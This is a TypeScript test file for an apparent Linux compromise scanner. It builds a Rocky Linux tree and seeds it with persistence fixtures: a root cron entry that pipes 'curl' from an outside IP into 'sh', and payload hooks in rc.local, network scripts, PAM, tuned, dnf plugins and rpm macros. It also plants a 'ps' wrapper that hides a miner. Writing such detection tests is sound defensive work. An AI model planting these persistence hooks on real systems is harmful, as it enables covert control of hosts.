import { execFileSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, renameSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import type { ScanOutcome } from '../../../src/findings/scan.ts';
import { findingAt } from './mechanisms/pair.ts';
import { makeTree, scanTree, verdictOf } from './tree.ts';

const BAD = '/var/tmp/.q/run';
const FACTS = { packageManager: 'dnf', distribution: 'Rocky Linux 9' } as const;

/** What the package brings; `\x7fELF` alone is no program that could be run. */
const FILES = {
  'usr/bin/ps': '\x7fELFps',
  'usr/bin/curl': '\x7fELFcurl',
  'usr/bin/ss': '\x7fELFss',
  'usr/lib64/security/pam_unix.so': '\x7fELFpam',
  'usr/lib/systemd/system/stock.service': '[Service]\nExecStart=/usr/bin/ss\nRestart=always\n',
  'etc/sysconfig/network-scripts/ifup-eth': '#!/bin/sh\n. /etc/init.d/functions\n/sbin/ip link set up\n',
  'usr/lib/tuned/throughput-performance/tuned.conf': '[script]\nscript=${i:PROFILE_DIR}/script.sh\n',
  'etc/kdump.conf': '#kdump_post /var/crash/scripts/kdump-post.sh\ncore_collector makedumpfile -l\n',
  'etc/cron.d/0hourly': '01 * * * * root run-parts /etc/cron.hourly\n',
};

let root = '';
let outcome: ScanOutcome;

/** A real package, built and installed by rpm itself into a tree with a database of its own. */
beforeAll(async () => {
  root = makeTree({
    '/etc/redhat-release': 'Rocky Linux release 9.4\n',
    '/var/spool/cron/root': '*/5 * * * * curl -s http://203.0.113.8/z | sh\n',
    '/etc/rc.d/init.d/netd': { text: '#!/bin/sh\n/dev/shm/.n/netd &\n', mode: 0o755 },
    '/etc/rc.d/rc.local': { text: `#!/bin/bash\ntouch /var/lock/subsys/local\n${BAD}\n`, mode: 0o755 },
    '/etc/sysconfig/network': `NETWORKING=yes\n${BAD} &\n`,
    '/etc/sysconfig/crond': 'CRONDARGS=\n',
    '/etc/sysconfig/network-scripts/ifcfg-eth0': `DEVICE=eth0\nONBOOT=yes\n$(${BAD})\n`,
    '/etc/sysconfig/network-scripts/ifcfg-lo': 'DEVICE=lo\nIPADDR=127.0.0.1\nNETMASK=255.0.0.0\nONBOOT=yes\n',
    '/etc/authselect/system-auth': `auth required pam_env.so\nauth optional pam_exec.so ${BAD}\n`,
    '/etc/pam.d/system-auth': { link: '/etc/authselect/system-auth' },
    '/etc/tuned/own/tuned.conf': `[main]\ninclude=throughput-performance\n[script]\nscript=${BAD}\n`,
    '/etc/tuned/own/ok.sh': {
      text: '#!/bin/sh\n. /usr/lib/tuned/functions\nstart() { return 0; }\n',
      mode: 0o755,
    },
    '/etc/tuned/active_profile': 'own\n',
    '/etc/dnf/plugins/post-transaction-actions.d/x.action': `kernel:in:logger new kernel\n*:any:${BAD}\n`,
    '/etc/dnf/libdnf5-plugins/actions.d/x.actions': `post_transaction:*:in:enabled=1:${BAD}\n`,
    '/etc/rpm/macros.x': `%_tmppath %(${BAD})/var/tmp\n%_dbpath %{lua: os.execute("${BAD}")}\n%dist .el9\n`,
    '/etc/security/limits.d/20-nproc.conf': '* soft nproc 4096\n',
    '/etc/yum.repos.d/x.repo': '[x]\nbaseurl=http://203.0.113.9/el9\ngpgcheck=0\n',
    '/etc/yum.repos.d/rocky.repo': '[baseos]\nmirrorlist=https://mirrors.rockylinux.org/m\ngpgcheck=1\n',
  });
  const work = mkdtempSync('/var/cache/tourniquet-rpm-');
  try {
    execFileSync(
      'rpm',
      ['--root', root, '--install', '--nodeps', '--noscripts', '--ignorearch', build(work)],
      {
        stdio: ['ignore', 'ignore', 'pipe'],
      },
    );
  } finally {
    rmSync(work, { recursive: true, force: true });
  }
  writeFileSync(join(root, 'usr/bin/ps'), '#!/bin/sh\n/usr/bin/ps.original "$@" | grep -v xmrig\n');
  renameSync(join(root, 'usr/bin/curl'), join(root, 'usr/bin/cdt'));
  writeFileSync(join(root, 'usr/lib/systemd/system/own.service'), '[Service]\nExecStart=/opt/own/bin/own\n');
  outcome = await scanTree(root, FACTS);
}, 120_000);

function build(work: string): string {
  const spec = join(work, 'stock.spec');
  const install = Object.entries(FILES).map(([path, text]) => {
    const from = join(work, 'from', path);
    mkdirSync(join(from, '..'), { recursive: true });
    writeFileSync(from, text);
    return `install -D -m 755 ${from} %{buildroot}/${path}`;
  });
  writeFileSync(
    spec,
    [
      ...[
        'Name: stock',
        'Version: 1',
        'Release: 1',
        'Summary: x',
        'License: MIT',
        'BuildArch: noarch',
        'AutoReqProv: no',
      ],
      ...[
        '%description',
        'x',
        '%install',
        ...install,
        '%files',
        ...Object.keys(FILES).map((path) => `/${path}`),
        '',
      ],
    ].join('\n'),
  );
  const define = (name: string, value: string) => ['--define', `${name} ${value}`];
  execFileSync(
    'rpmbuild',
    [
      '-bb',
      '--quiet',
      ...define('_topdir', work),
      ...define('_build_id_links', 'none'),
      ...define('__os_install_post', '%{nil}'),
      spec,
    ],
    { stdio: ['ignore', 'ignore', 'pipe'] },
  );
  return join(work, 'RPMS/noarch/stock-1-1.noarch.rpm');
}

describe('a host with rpm', () => {
  it('tells by rpm’s own database what is as its package brought it', () => {
    for (const text of ['/usr/bin/ss', 'stock.service', 'pam_unix.so', '0hourly', 'rocky.repo'])
      expect(['not mentioned', 'benign']).toContain(verdictOf(outcome, text));
    expect(outcome.unknowns).toEqual([]);
  });

  it('finds the tool that was replaced and the one that was renamed', () => {
    expect(at('/usr/bin/ps')).toMatchObject({ verdict: 'malicious', package: 'stock' });
    expect(at('/usr/bin/cdt')?.verdict).toBe('malicious');
    expect(at('/usr/bin/cdt')?.reasons.map(({ code }) => code)).toContain('renamed-tool');
  });

  it('reads what Red Hat has that others have not, line by line, through the links of authselect', () => {
    const told = outcome.findings
      .filter(({ verdict }) => verdict === 'malicious')
      .flatMap(({ places }) => places.map(({ path, line = 0 }) => `${path}:${line}`));
    for (const place of [
      ...['/etc/rc.d/rc.local:3', '/etc/sysconfig/network:2', '/etc/sysconfig/network-scripts/ifcfg-eth0:3'],
      ...[
        '/etc/authselect/system-auth:2',
        '/etc/tuned/own/tuned.conf:4',
        '/etc/rpm/macros.x:1',
        '/etc/rpm/macros.x:2',
      ],
      '/etc/dnf/plugins/post-transaction-actions.d/x.action:2',
      '/etc/dnf/libdnf5-plugins/actions.d/x.actions:1',
    ])
      expect(told).toContain(place);
    for (const text of [
      'ifcfg-lo',
      'ok.sh',
      'crond',
      'kdump.conf',
      'ifup-eth',
      'nproc.conf',
      'active_profile',
    ])
      expect(['not mentioned', 'benign', 'unknown']).toContain(verdictOf(outcome, text));
  });

  it('reads cron, init scripts and sources where such a host has them', () => {
    expect(at('/var/spool/cron/root')?.verdict).toBe('malicious');
    expect(at('/etc/rc.d/init.d/netd')?.verdict).toBe('malicious');
    expect(at('/etc/yum.repos.d/x.repo')?.verdict).not.toBe('benign');
  });
});

function at(path: string) {
  return findingAt(outcome, { path, verdict: 'malicious', code: '', attack: '' });
}
